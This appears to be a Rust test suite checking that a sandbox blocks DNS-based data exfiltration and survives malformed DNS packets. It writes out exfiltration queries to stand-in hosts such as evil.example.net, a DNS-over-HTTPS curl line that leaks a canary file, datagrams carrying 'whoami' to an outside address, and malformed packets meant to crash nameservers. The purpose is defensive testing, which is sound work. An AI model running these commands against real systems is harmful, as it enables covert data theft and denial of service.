//! Questions about names as a way out, and answers as a way in.

use crate::harness::canary::random_name;
use crate::harness::online::{Tricks, heard, must_be_recorded, never_heard, policy, set_policy};
use crate::harness::{Run, each_online, host};

/// What the policy of these tests allows.
const ALLOWED: &[&str] = &["web.example.com:80,443", "*.wild.example.com:80"];

/// Asserts that a question, in which `UNIQUE` stands for something that nobody else asks, is heard bare and not from the sandbox.
#[track_caller]
fn carries_nothing_out(question: &str, recorded: &str) {
    each_online(|scene| {
        let ask = |name: &str| {
            Run::shell(&format!("attack() {{ ~/.local/bin/attack \"$@\"; }}\n{}", question.replace("UNIQUE", name)))
        };
        let (bare, inside) = (random_name(), random_name());
        let outcome = scene.bare(&ask(&bare));
        assert!(heard(&[&bare]), "must be heard bare, or it shows nothing: {question}: {outcome}");
        if host::only_bare() {
            return;
        }
        set_policy(scene, &policy(ALLOWED));
        let outcome = scene.sandboxed(&ask(&inside));
        assert!(never_heard(&[&inside]), "this came out as {}: {question}: {outcome}", scene.identity.name());
        must_be_recorded(scene, &outcome, &recorded.replace("UNIQUE", &inside));
    });
}

#[test]
fn question_about_another_name_never_leaves() {
    for over in ["udp", "tcp"] {
        carries_nothing_out(&format!("attack ask {over} - A UNIQUE.evil.example.net"), "UNIQUE.evil.example.net");
    }
}

#[test]
fn question_to_another_nameserver_never_leaves() {
    for server in ["6.6.6.6", "45.33.32.156", "10.7.7.7", "2600:3c01::66", "93.184.216.10"] {
        carries_nothing_out(&format!("attack ask udp {server} TXT UNIQUE.evil.example.net"), "UNIQUE.evil.example.net");
        carries_nothing_out(&format!("attack ask tcp {server} A UNIQUE.evil.example.net"), "UNIQUE.evil.example.net");
    }
}

#[test]
fn question_below_an_allowed_name_never_leaves() {
    carries_nothing_out("attack ask udp - A UNIQUE.web.example.com", "UNIQUE.web.example.com");
    carries_nothing_out("attack ask udp - TXT UNIQUE.web.example.com", "UNIQUE.web.example.com");
}

#[test]
fn question_below_a_wildcard_never_leaves_by_itself() {
    carries_nothing_out(
        "attack ask udp - A UNIQUE.wild.example.com; attack ask tcp - TXT UNIQUE.wild.example.com; attack ask udp - ANY UNIQUE.wild.example.com",
        "",
    );
}

#[test]
fn long_labels_carry_nothing_out() {
    let long = "UNIQUE0123456789abcdef0123456789abcdef";
    carries_nothing_out(
        &format!("for i in 1 2 3 4 5; do attack ask udp - TXT {long}.l$i.{long}.t.evil.example.net; done"),
        "t.evil.example.net",
    );
    carries_nothing_out(&format!("attack ask udp - NULL {long}.{long}.u.evil.example.net"), "u.evil.example.net");
}

#[test]
fn other_kinds_of_questions_carry_nothing_out() {
    for kind in ["TXT", "CNAME", "MX", "NS", "PTR", "ANY"] {
        carries_nothing_out(&format!("attack ask udp - {kind} UNIQUE.evil.example.net"), "UNIQUE.evil.example.net");
    }
}

#[test]
fn text_of_an_allowed_name_carries_nothing_in() {
    // An allowed name's zone could answer commands; only addresses are answered, and they are the sandbox's own.
    Tricks::new(
        ALLOWED,
        &[("attack ask udp - TXT web.example.com", ""), ("attack ask tcp - TXT one.wild.example.com", "")],
    )
    .are_refused();
}

#[test]
fn encrypted_questions_are_connections_like_others() {
    let query = "TG8BAAABAAAAAAAACE5BTUVOQU1FBWV2aWwxB2V4YW1wbGUDbmV0AAABAAE";
    let https = format!("curl -sS -m 8 https://dns-evil.example.net/dns-query?dns={query} | grep -c example");
    let tries = [https, "dig +tls +time=2 +tries=1 @45.33.32.156 TXT evil.example.net".to_owned()];
    let tricks: Vec<(&str, &str)> =
        vec![(tries[0].as_str(), "dns-evil.example.net"), (tries[1].as_str(), "45.33.32.156")];
    let printed = "| sed \"s/^[1-9][0-9]*$/$(cat canary)/\"";
    let first = format!("{} {printed}", tricks[0].0);
    Tricks::new(ALLOWED, &[(&first, tricks[0].1), tricks[1]]).canary_in("canary").are_refused();
}

#[test]
fn names_of_other_machines_are_not_found_by_their_addresses() {
    carries_nothing_out("dig +short +time=2 +tries=1 PTR UNIQUE.in-addr.arpa", "UNIQUE.in-addr.arpa");
}

#[test]
fn names_of_the_local_network_are_not_asked_for_by_datagram() {
    // As multicast DNS and LLMNR do it, to one address each.
    Tricks::new(
        ALLOWED,
        &[("attack dgram 10.7.7.7:4444 whoami", "10.7.7.7"), ("attack dgram [fd00::7]:4444 whoami", "fd00::7")],
    )
    .are_refused();
}

#[test]
fn malformed_questions_end_neither_the_nameserver_nor_the_sandbox() {
    if host::only_bare() {
        return;
    }
    // A name that points at itself, one that points forward and back, one without an end, a hundred questions, nothing.
    let bombs = [
        r"Lo\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c\x00\x01\x00\x01",
        r"Lo\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0e\xc0\x0c\x00\x01\x00\x01",
        r"Lo\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x3faaaa",
        r"Lo\x01\x00\x00\x64\x00\x00\x00\x00\x00\x00\x01a\x00\x00\x01\x00\x01",
        r"Lo\x01\x00\x00\x01\xff\xff\xff\xff\xff\xff\x01a\x00\x00\x01\x00\x01",
        r"Lo",
        r"\*1400:\xc0",
        r"Lo\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\*250:\x01\x00\x00\x01\x00\x01",
    ];
    each_online(|scene| {
        set_policy(scene, &policy(ALLOWED));
        let mut script = String::from("for i in 1 2 3; do\n");
        for bomb in bombs {
            script.push_str(&format!("~/.local/bin/attack dgram 198.18.0.1:53 '{bomb}' &\n"));
        }
        script.push_str("wait; done; ~/.local/bin/attack fetch web.example.com 80 / && echo still there");
        let outcome = scene.sandboxed(&Run::shell(&script));
        assert!(outcome.out().contains("still there"), "as {}: {outcome}", scene.identity.name());
    });
}
